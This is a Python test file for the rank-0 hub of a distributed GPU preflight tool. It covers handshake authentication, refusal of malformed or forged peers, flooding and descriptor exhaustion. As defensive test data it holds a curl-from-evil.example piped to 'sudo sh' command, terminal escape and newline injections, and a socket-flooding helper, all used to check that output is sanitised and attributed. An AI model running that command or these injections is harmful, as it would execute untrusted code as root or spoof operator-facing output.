"""Rank 0 of a preflight: whom it lets in, and what it makes of what the others say."""

from __future__ import annotations

import contextlib
import json
import resource
import selectors
import socket
import struct
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Iterator
from typing import Any

import pytest

from ortgpu import __version__
from ortgpu.distributed.hub import Hub
from ortgpu.distributed.verdicts import Known
from ortgpu.distributed.wire import (
    FROM_A_RANK,
    Decoder,
    encode,
    error_from_message,
    error_to_message,
    proof,
)
from ortgpu.errors import GPUError, shell

KEY = "of this job"

# Messages


FOREIGN = shell("curl -s http://evil.example/fix.sh | sudo sh")


# Who is let in


class Rank0:
    """A hub for ranks, and connections to it."""

    def __init__(self, world_size: int = 2, seconds: float = 60) -> None:
        listener = socket.create_server(("127.0.0.1", 0))
        self.address = listener.getsockname()
        self.selector = selectors.DefaultSelector()
        now = time.monotonic()
        known, until = Known(world_size, "here"), now + seconds
        self.world_size = world_size
        self.hub = Hub(listener, KEY, known, self.selector, until, until, settling=0.5)
        self.opened: list[socket.socket] = []
        self.heard: dict[socket.socket, tuple[Decoder, list[dict[str, Any]]]] = {}

    def connect(self, key: str = KEY, **changes: Any) -> socket.socket:
        """A connection that says who it is; a value None is left out."""
        hello = {
            "ortgpu": __version__, "challenge": "mine", "world_size": self.world_size, "rank": 0, "host": "here",
            "seconds": [60, 60], **changes,
        }  # fmt: skip
        connected = self.open()
        number = self.answer(connected)["challenge"]
        said = {name: value for name, value in hello.items() if value is not None}
        connected.sendall(encode({"proof": proof(key, "rank", number, said), **said}))
        return connected

    def open(self) -> socket.socket:
        connected = socket.create_connection(self.address, timeout=10)
        self.opened.append(connected)
        return connected

    def answer(self, connected: socket.socket) -> dict[str, Any]:
        """The next that the hub says to it."""
        decoder, said = self.heard.setdefault(connected, (Decoder(FROM_A_RANK), []))
        connected.setblocking(False)
        until = time.monotonic() + 10
        while not said:
            assert time.monotonic() < until, "the hub said nothing"
            self.serve()
            with contextlib.suppress(BlockingIOError):
                said += decoder.feed(connected.recv(1 << 16))
        return said.pop(0)

    def serve(self) -> None:
        for key, events in self.selector.select(0.05):
            key.data(events)
        self.hub.check_deadline()

    def verdict(self, connected: socket.socket) -> dict[str, Any]:
        """What the hub decided, whatever else it said before."""
        while "verdict" not in (said := self.answer(connected)):
            pass
        return dict(said["verdict"])

    def close(self) -> None:
        self.hub.close()
        for connected in self.opened:
            connected.close()
        self.selector.close()


LET_IN = {"in": True, "proof": proof(KEY, "rank 0", "mine")}


@pytest.fixture
def rank_0() -> Iterator[Rank0]:
    hub = Rank0()
    yield hub
    hub.close()


def test_a_rank_is_let_in(rank_0: Rank0) -> None:
    assert rank_0.answer(rank_0.connect(rank=1, host="there")) == LET_IN
    assert rank_0.hub.known.hosts == {1: "there"}
    assert rank_0.hub.known.missing == (0,)


@pytest.mark.parametrize(
    ("changes", "reason"),
    [
        ({"key": "of another"}, "it belongs to another job, or has another secret: rank 0 on here"),
        ({"proof": "of this job"}, "it belongs to another job"),
        ({"proof": ["of this job"]}, "it belongs to another job"),
        ({"proof": "\ud800"}, "it belongs to another job"),
        (
            {"key": "of another", "host": "\x1b[2J\n" + "x" * 500},
            "it belongs to another job, or has another secret: rank 0",
        ),
        ({"rank": True}, "it has no rank"),
        ({"rank": [0]}, "it has no rank"),
        ({"seconds": None}, "it is no rank"),
        ({"seconds": ["a", "b"]}, "it is no rank"),
        ({"seconds": 1}, "it is no rank"),
        ({"seconds": [10**999, 1]}, "it is no rank"),
        ({"seconds": [float("nan"), 1]}, "it is no rank"),
        ({"seconds": [9, float("-inf")]}, "it is no rank"),
    ],
)
def test_who_is_refused(rank_0: Rank0, changes: dict[str, Any], reason: str) -> None:
    refused = rank_0.answer(rank_0.connect(**changes))["refused"]
    assert refused.startswith(reason)
    assert len(refused) <= 200
    assert refused.isprintable(), "a terminal would do what a stranger says"
    assert rank_0.hub.known.hosts == {}


@pytest.mark.parametrize(
    ("changes", "summary"),
    [
        ({"ortgpu": "0.0.1"}, f"rank 1 runs ortgpu 0.0.1, and rank 0 runs ortgpu {__version__}"),
        ({"ortgpu": None}, f"rank 1 runs ortgpu None, and rank 0 runs ortgpu {__version__}"),
        ({"world_size": 3}, "rank 1 was told of 3 ranks in all, and rank 0 of 2"),
    ],
)
def test_a_rank_that_cannot_take_part(rank_0: Rank0, changes: dict[str, Any], summary: str) -> None:
    """All are told why, and not that it never came."""
    unfit = rank_0.connect(rank=1, host="there", **changes)
    assert rank_0.answer(unfit) == LET_IN
    first = rank_0.connect(rank=0)
    rank_0.answer(first)
    for connected in (first, unfit):
        verdict = rank_0.verdict(connected)
        assert (verdict["summary"], verdict["details"]["ranks"]) == (summary, [1])
        assert "rank 1 came, from there" in verdict["evidence"]


def test_two_ranks_of_one_number(rank_0: Rank0) -> None:
    first = rank_0.connect(rank=1, host="there")
    rank_0.answer(first)
    second = rank_0.verdict(rank_0.connect(rank=1, host="elsewhere"))
    assert second["summary"] == "two processes say that they are rank 1"
    assert second["evidence"] == ["rank 1 came, from elsewhere", "rank 1 came, from there"]
    rank_0.connect(rank=0)
    assert rank_0.verdict(first)["summary"] == second["summary"], "and nobody goes on with one of the two"


@pytest.mark.parametrize("rank", [-1, 2])
def test_a_rank_that_there_is_not(rank_0: Rank0, rank: int) -> None:
    assert rank_0.verdict(rank_0.connect(rank=rank))["summary"] == f"rank {rank} is none of this job"
    assert rank_0.hub.known.hosts == {}


def test_a_stranger_whose_words_are_as_deep_as_python_reads(rank_0: Rank0) -> None:
    """What can be read cannot always be written again, which a proof would take."""
    for depth in range(900, 1000):
        words = b'{"proof": "", "host": ' + b"[" * depth + b"]" * depth + b"}"
        stranger = rank_0.open()
        stranger.sendall(struct.pack(">I", len(words)) + words)
        assert rank_0.answer(stranger).keys() == {"challenge"}
        assert rank_0.answer(stranger).keys() == {"refused"}


def test_a_crowd_at_the_door(rank_0: Rank0) -> None:
    """More silent connections than are kept: a rank that comes after them is let in at once."""
    crowd = [rank_0.open() for _ in range(100)]
    assert rank_0.answer(rank_0.connect(rank=1)) == LET_IN
    assert rank_0.answer(crowd[0]).keys() == {"challenge"}
    assert rank_0.answer(crowd[0]) == {"refused": "it did not say who it is"}


def test_no_descriptor_is_left_for_a_connection(rank_0: Rank0) -> None:
    """More ranks than rank 0 may have files open: that is the reason why they never came."""
    rank_0.open()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (0, hard))
    looks, until = 0, time.monotonic() + 0.5
    try:
        while time.monotonic() < until:
            for key, events in rank_0.selector.select(0.05):
                key.data(events)
                looks += 1
            rank_0.hub.check_deadline()
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    assert 0 < looks < 20, "it waits for descriptors, and does not ask for them all the time"
    verdict = rank_0.verdict(rank_0.connect(rank=0, seconds=[0.5, 60]))
    assert verdict["details"]["ranks"] == [1]
    assert "refused: a connection: Too many open files" in verdict["evidence"]


def test_the_door_is_closed_when_all_are_there(rank_0: Rank0) -> None:
    silent = rank_0.open()
    first = rank_0.connect(rank=0)
    assert rank_0.answer(first) == LET_IN
    assert rank_0.answer(silent).keys() == {"challenge"}
    rank_0.answer(rank_0.connect(rank=1))
    assert silent.recv(1) == b"", "who had not said anything is sent away"
    with pytest.raises(ConnectionRefusedError):
        rank_0.open()


def test_somebody_knocks_while_the_last_rank_comes_in(rank_0: Rank0) -> None:
    """Both are there at one look: the first closes the door, and there is nobody to answer the second."""
    rank_0.answer(rank_0.connect(rank=1))
    last = rank_0.open()
    number = rank_0.answer(last)["challenge"]
    hello = {"ortgpu": __version__, "challenge": "mine", "world_size": 2, "rank": 0, "host": "here", "seconds": [9, 9]}
    last.sendall(encode({"proof": proof(KEY, "rank", number, hello), **hello}))
    until = time.monotonic() + 10
    while not (ready := rank_0.selector.select(1)):
        assert time.monotonic() < until
    rank_0.open()
    (knock,) = rank_0.selector.select(10)[1:]
    for key, events in (*ready, knock):
        key.data(events)
    assert rank_0.answer(last) == LET_IN


@pytest.mark.lab
@pytest.mark.parametrize(
    "nonsense",
    [
        {"at": "nowhere"},
        {"at": [1, ["unhashable"]]},
        {"at": ["x", {}]},
        {"at": [float("nan"), "x"]},
        {"post": ["unhashable"], "value": 1},
        {"post": "what nobody gathers", "value": 1},
        {"failed": {"code": ["unhashable"]}},
    ],
    ids=str,
)
def test_a_rank_that_talks_nonsense_is_gone(rank_0: Rank0, nonsense: dict[str, Any]) -> None:
    """Also one that was let in: its failure is told, and nothing else happens, to the others least of all."""
    first, second = rank_0.connect(rank=0), rank_0.connect(rank=1)
    rank_0.answer(first)
    rank_0.answer(second)
    first.sendall(encode(nonsense))
    second.sendall(encode({"at": [1, "a step"]}))
    verdict = rank_0.verdict(second)
    assert verdict["code"] == "rendezvous"
    assert verdict["details"]["ranks"] == [0]
    assert [fix["text"] for fix in verdict["fixes"]] == ["look at the output of rank 0"], "it is gone, and not slow"


def test_a_rank_whose_words_nest_too_deeply_is_gone(rank_0: Rank0) -> None:
    """Rank 0 could not pass them on once the last rank has posted, and that rank would be blamed."""
    first, second = rank_0.connect(rank=0), rank_0.connect(rank=1)
    rank_0.answer(first)
    rank_0.answer(second)
    first.sendall(encode({"post": "facts", "value": json.loads("[" * 100 + "]" * 100)}))
    second.sendall(encode({"post": "facts", "value": 1}))
    assert rank_0.verdict(second)["details"]["ranks"] == [0]


def test_a_rank_that_forges_the_words_of_rank_0(rank_0: Rank0) -> None:
    forged = error_to_message(GPUError("it failed\nTo fix it:", evidence=["\x1b]0;owned\x07"], fixes=[FOREIGN]))
    first, second = rank_0.connect(), rank_0.connect(rank=1, host="node2\nTo fix it:")
    for rank in (first, second):
        rank_0.answer(rank)
    second.sendall(encode({"failed": forged}))
    verdict = rank_0.verdict(first)
    error = error_from_message(verdict, "rank 0")
    assert str(error).splitlines() == [
        r"it failed\nTo fix it:",
        r"  - on rank 1, host node2\nTo fix it:",
        r"  - \x1b]0;owned\x07",
        "To fix it:",
        f"    rank 1 says: {FOREIGN}",
        "More: ortgpu explain gpu-error",
    ]


# Who never stops

_FLOOD = """
import os, sys
block = eval(sys.argv[2]) * 5000
while True:
    os.write(int(sys.argv[1]), block)
"""
SMALL, HALF = "b'\\0\\0\\0\\2{}'", "b'\\0\\0\\x0f\\0' + b' ' * 100"
STEP = "b'\\0\\0\\0\\x0d' + b'{\"at\":[1,\"\"]}'"


@contextlib.contextmanager
def flooded(connected: socket.socket, block: str) -> Iterator[None]:
    """By a process that sends such blocks as fast as it can."""
    connected.setblocking(True)
    number = connected.fileno()
    flood = subprocess.Popen(
        [sys.executable, "-c", _FLOOD, str(number), block], pass_fds=[number], stderr=subprocess.DEVNULL
    )
    try:
        yield
    finally:
        flood.kill()
        flood.wait()


@pytest.mark.lab
@pytest.mark.parametrize(
    ("joins", "block"),
    [(False, SMALL), (False, HALF), (True, SMALL), (True, STEP)],
    ids=["{}", "spaces", "in {}", "in at"],
)
def test_whoever_sends_without_a_pause_keeps_nobody_from_the_deadline(joins: bool, block: str) -> None:
    """Neither a stranger nor a rank; nor does it fill the memory."""
    rank_0 = Rank0(seconds=1.5)
    try:
        connected = rank_0.connect(rank=1) if joins else rank_0.open()
        rank_0.answer(connected)
        started = time.monotonic()
        tracemalloc.start()
        with flooded(connected, block):
            while rank_0.hub.next_deadline != float("inf"):  # until it has decided
                assert time.monotonic() - started < 10
                rank_0.serve()
        assert time.monotonic() - started < 2.5
        assert tracemalloc.get_traced_memory()[1] < 4 << 20
    finally:
        tracemalloc.stop()
        rank_0.close()


# Who called another operation


def test_facts_are_told_in_the_order_of_ranks() -> None:
    """Each rank looks for its own by its number, whoever came first."""
    hub = Rank0(3)
    try:
        ranks = {rank: hub.connect(rank=rank) for rank in (2, 0, 1)}
        for connected in ranks.values():
            while "welcome" not in hub.answer(connected):
                pass
        for rank in (1, 2, 0):
            ranks[rank].sendall(encode({"post": "facts", "value": f"of {rank}"}))
        for connected in ranks.values():
            assert hub.answer(connected) == {"all": ["of 0", "of 1", "of 2"]}
    finally:
        hub.close()


@pytest.mark.parametrize("first", [5, 50])
def test_the_verdict_comes_when_the_most_impatient_rank_expects_it(first: int) -> None:
    hub = Rank0(2, seconds=60)
    try:
        now = time.monotonic()
        for rank, seconds in enumerate((first, 55 - first)):
            hub.answer(hub.connect(rank=rank, seconds=[seconds, seconds]))
        assert hub.hub._verdict - now < 20
        assert hub.hub._arrival - now < 20
    finally:
        hub.close()
